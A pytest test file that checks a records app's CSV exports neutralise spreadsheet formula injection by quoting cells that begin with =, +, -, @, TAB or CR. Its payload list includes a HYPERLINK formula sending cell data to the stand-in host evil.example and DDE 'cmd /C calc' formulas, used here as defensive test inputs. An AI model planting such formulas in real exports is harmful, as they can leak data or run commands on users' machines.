"""CSV exports open in a spreadsheet: a cell that starts like a formula (= + - @, or a TAB or CR before one) is
written as text with a leading single quote, plain negative numbers stay numbers, and the client book's CSV still
reads back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.settings import resolve_paths
from records import BookRow, Contact, Store
from records.client_files import read_client_file, write_client_csv
from records.export import csv_cell, csv_text, to_csv
from tests.cli import saydo

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def exported_cells(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_text(csv_cell(text)) == text


@pytest.mark.parametrize("text", ["-12.5", "-300000", "plain", "", "客户 =1", "'quoted"])
def test_other_text_and_negative_numbers_are_left_alone(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''-2+3", "-", "-1e3", "--5"])
def test_quoting_is_undone_exactly(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(DANGEROUS_START)
    assert csv_text(cell) == text


def test_records_csv_export_neutralises_every_formula(store: Store, tmp_path: Path) -> None:
    for text in FORMULAS:
        store.add({"intent": "note", "fields": {"text": text}}, transcript=text, lang="en", source="cli")
    store.add({"intent": "expense", "fields": {"merchant": "=1+1", "amount": -12.5, "currency": "CNY"}},
              transcript="refund", lang="en", source="cli")
    rows = exported_cells(to_csv(store.list(limit=None)))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START) and cell != "-12.5"]
    texts = {row[header.index("text")] for row in body} - {""}
    assert texts == {"'" + text for text in FORMULAS}
    expense = next(row for row in body if row[header.index("intent")] == "expense")
    assert expense[header.index("amount")] == "-12.5"  # a number in the spreadsheet, not text
    assert expense[header.index("merchant")] == "'=1+1"


def test_records_export_command_writes_safe_csv(tmp_path: Path) -> None:
    home = tmp_path / "home"
    with Store.open(resolve_paths(home).db_path) as store:
        for text in FORMULAS:
            store.add({"intent": "note", "fields": {"text": text}}, transcript=text, lang="en", source="cli")
    result = saydo(home, "records", "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    cells = [cell for row in exported_cells(result.stdout) for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
    assert sum(cell.startswith("'") for cell in cells) == 2 * len(FORMULAS)  # the transcript and the text


def test_client_book_csv_is_safe_and_reads_back(tmp_path: Path) -> None:
    rows = [BookRow(0, "=cmd|' /C calc'!A0", ("@evil", "'=quoted"), (Contact("+1 Bob", "-VP"),)),
            BookRow(0, "Acme", (), (Contact("Li", "=1+1"),))]
    data = write_client_csv(rows).decode("utf-8-sig")
    cells = [cell for row in exported_cells(data) for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
    assert "'=cmd|' /C calc'!A0" in cells and "'=1+1" in cells
    path = tmp_path / "book.csv"
    path.write_text(data, encoding="utf-8-sig")
    read = read_client_file(path)
    assert read.problems == []
    assert [(row.client, row.client_aliases, row.contacts) for row in read.rows] == [
        (row.client, row.client_aliases, row.contacts) for row in rows
    ]
